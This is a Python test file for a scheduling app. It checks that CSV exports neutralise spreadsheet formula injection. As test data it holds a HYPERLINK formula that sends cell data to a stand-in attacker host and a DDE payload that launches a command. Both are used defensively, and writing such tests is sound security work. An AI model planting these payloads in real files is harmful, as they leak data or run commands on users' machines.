"""CSV exports: no cell starts with a character that makes a spreadsheet run it as a formula (issue 18 item 7)."""

from __future__ import annotations

import csv
import io
from datetime import date

from sched.extensions import db
from sched.services.csv_export import safe_cell
from tests.factories import add_gp, make_period, publish_version

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_safe_cell_quotes_formula_starts_and_leaves_the_rest():
    assert [safe_cell(f"{c}1+1") for c in DANGEROUS] == [f"'{c}1+1" for c in DANGEROUS]
    assert safe_cell("Cabinet de garde") == "Cabinet de garde" and safe_cell(-1) == -1 and safe_cell("") == ""


def test_the_planning_export_neutralises_a_site_and_a_gp_named_like_formulas(client, login_as, territory):
    login_as("coordinator")
    territory.sites[0].name = '=HYPERLINK("http://evil.example/?"&A1;"cliquez")'
    gp = add_gp(territory, 1)
    gp.user.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    period = make_period(territory, date(2027, 4, 5), 2)
    publish_version(period, [(period.shifts[0], gp)])
    db.session.commit()
    response = client.get(f"/coordination/periodes/{period.id}/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"cliquez")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
